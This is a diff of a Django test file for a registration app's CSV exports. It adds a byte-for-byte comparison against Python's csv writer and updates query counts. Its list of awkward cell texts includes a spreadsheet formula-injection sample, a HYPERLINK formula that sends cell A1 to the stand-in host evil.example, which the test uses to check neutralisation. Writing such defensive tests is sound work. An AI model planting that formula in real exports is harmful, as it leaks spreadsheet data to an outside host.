@@ -5,6 +5,7 @@ import re
 import zoneinfo
 
 import pytest
+from django.conf import settings
 from django.contrib.admin import AdminSite
 from django.contrib.auth.models import Permission
 from django.contrib.messages.storage.fallback import FallbackStorage
@@ -13,8 +14,12 @@ from django.core.signals import request_finished
 from django.db import close_old_connections, connection
 from django.http import StreamingHttpResponse
 from django.urls import reverse
+from django.utils import translation
+from django.utils.functional import Promise
+from django.utils.translation import gettext as _
+from django_countries import countries
 
-from registration import staff
+from registration import exports, staff
 from registration.admin import RegistrationAdmin
 from registration.exports import neutralise
 from registration.models import Booking, ExportRecord, Registration
@@ -167,6 +172,105 @@ def test_attendee_csv_writes_every_column_in_the_documented_order(client, export
         "Spanish",
         "",
     ]
+
+
+# What a spreadsheet or program meets in a cell: formulas, the delimiters, quotes, line ends,
+# backslashes, every script, and nothing at all.
+AWKWARD_TEXTS = [
+    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
+    "+34 963 123 456",
+    "  -1+1",
+    "\t=1+1",
+    "@SUM(1+1)",
+    "-",
+    'Say "hello"',
+    "Comma, semicolon; both",
+    "Line\nbreak",
+    "Carriage\rreturn",
+    "Back\\slash \\. \\N",
+    "Marcel·la Gil·labert",
+    "Σταύρος 😀 e\u0301",
+    "Łódź Region® < 75 cm, 4°C",
+    "",
+]
+
+
+def written_by_python(export, dialect: str) -> bytes:
+    """The file as Python's csv writer makes it from the list's own rows: the reference the
+    database-written file must equal byte for byte."""
+    conference = export.conference
+    labels = {
+        "status": dict(Registration.Status.choices),
+        "organisation_type": dict(Registration.OrganisationType.choices),
+        "booking_status": dict(Booking.Status.choices),
+        "language": dict(settings.LANGUAGES),
+        "country": dict(countries),
+    }
+
+    def cell(column, value):
+        if column.kind == "datetime":
+            value = value.astimezone(conference.tz).isoformat(timespec="seconds") if value else ""
+        elif column.kind == "yes_no":
+            value = _("yes") if value else _("no")
+        elif column.kind == "country":
+            value = labels["country"].get(value, value or "")
+        elif column.kind in labels:
+            value = labels[column.kind].get(value, value)
+        value = str(value) if isinstance(value, Promise) else value
+        return neutralise(value) if isinstance(value, str) else value
+
+    out = io.StringIO()
+    writer = csv.writer(out, delimiter=exports.DELIMITERS[dialect], lineterminator="\r\n")
+    writer.writerow([exports._header(column, conference) for column in export.columns])
+    for row in export.rows:
+        writer.writerow([cell(column, value) for column, value in zip(export.columns, row, strict=True)])
+    return ((exports.BYTE_ORDER_MARK if dialect != exports.Dialect.CSV else "") + out.getvalue()).encode()
+
+
+@pytest.mark.parametrize("dialect", exports.Dialect.values)
+@pytest.mark.parametrize("language", ["en", "es"])
+@pytest.mark.parametrize("zone", ["Europe/Madrid", "America/St_Johns", "Asia/Kathmandu"])
+def test_every_list_is_byte_for_byte_what_pythons_csv_writer_makes(
+    client, exporter, conference, dialect, language, zone
+):
+    conference.timezone = zone
+    conference.save()
+    pre_event = SessionFactory(conference=conference, kind="pre_event", code="awkward", title=AWKWARD_TEXTS[0])
+    for number, text in enumerate(AWKWARD_TEXTS, start=1):
+        registration = RegistrationFactory(
+            conference=conference,
+            number=number,
+            status=[Registration.Status.CONFIRMED, Registration.Status.WAITLISTED][number % 2],
+            given_name=text or "x",
+            family_name=AWKWARD_TEXTS[-number],
+            organisation=text,
+            organisation_type=Registration.OrganisationType.values[number % len(Registration.OrganisationType.values)],
+            country=["PL", "ES", "GR", ""][number % 4],
+            job_title=text,
+            dietary_requirements=text,
+            accessibility_needs=text,
+            photo_opt_out=bool(number % 3),
+            language=["en", "es", "fr", "de"][number % 4],
+            created_at=dt.datetime(2026, number % 12 + 1, 1, 23, 59, 59, tzinfo=UTC),
+        )
+        BookingFactory(registration=registration, session=pre_event)
+    lists = {
+        "registration:attendees_csv": exports.attendee_list(conference, filters={}, omit=[]),
+        "registration:check_in_csv": exports.check_in_list(conference, omit=[]),
+    }
+
+    client.cookies[settings.LANGUAGE_COOKIE_NAME] = language
+
+    for name, export in lists.items():
+        with translation.override(language):
+            expected = written_by_python(export, dialect)
+        response = client.get(reverse(name, args=[conference.slug]), {"format": dialect})
+        assert body(response) == expected, name
+    assert ("Apellidos" in expected.decode()) == (language == "es")
+    with translation.override(language):
+        expected = written_by_python(exports.session_list(pre_event, omit=[]), dialect)
+    response = client.get(reverse("registration:session_csv", args=[conference.slug, "awkward"]), {"format": dialect})
+    assert body(response) == expected
 
 
 def test_attendee_csv_dates_follow_summer_time_of_the_conference_zone(client, exporter, conference):
@@ -468,7 +572,7 @@ def test_attendee_csv_records_who_exported_what_and_how_many_rows(client, export
 
 
 def test_interrupted_download_is_recorded_as_unfinished_with_the_rows_sent(rf, exporter, conference):
-    registrations = RegistrationFactory.build_batch(600, conference=conference, user=None)
+    registrations = RegistrationFactory.build_batch(exports.FETCH_ROWS + 100, conference=conference, user=None)
     for number, registration in enumerate(registrations, start=1):
         registration.number = number
     Registration.objects.bulk_create(registrations)
@@ -482,9 +586,9 @@ def test_interrupted_download_is_recorded_as_unfinished_with_the_rows_sent(rf, e
     close_early(response)
 
     assert header.startswith(b"\xef\xbb\xbfRegistration number")
-    assert first_chunk.count(b"\r\n") == 500
+    assert first_chunk.count(b"\r\n") == exports.FETCH_ROWS
     record = ExportRecord.objects.get()
-    assert record.rows == 500
+    assert record.rows == exports.FETCH_ROWS
     assert record.finished_at is None
 
 
@@ -496,8 +600,9 @@ def test_attendee_csv_takes_the_same_queries_for_1_and_50_attendees(
     for registration in RegistrationFactory.create_batch(count, conference=conference):
         BookingFactory(registration=registration, session=pre_event)
 
-    # user, conference, its team permission, record, savepoint, the rows, release, record update
-    with django_assert_num_queries(8):
+    # user, conference, its team permission, record, savepoint, the zone, the rows, the zone
+    # back, release, record update
+    with django_assert_num_queries(10):
         assert len(rows(client.get(attendees_url(conference)))) == count + 1
 
 
@@ -648,10 +753,10 @@ def test_check_in_and_session_lists_take_the_same_queries_for_1_and_50(
     for registration in RegistrationFactory.create_batch(count, conference=conference):
         BookingFactory(registration=registration, session=pre_event)
 
-    with django_assert_num_queries(8):
+    with django_assert_num_queries(10):
         assert len(rows(client.get(reverse("registration:check_in_csv", args=[conference.slug])))) == count + 1
     # ... and one more to find the session
-    with django_assert_num_queries(9):
+    with django_assert_num_queries(11):
         response = client.get(reverse("registration:session_csv", args=[conference.slug, "smart"]))
         assert len(rows(response)) == count + 1
 
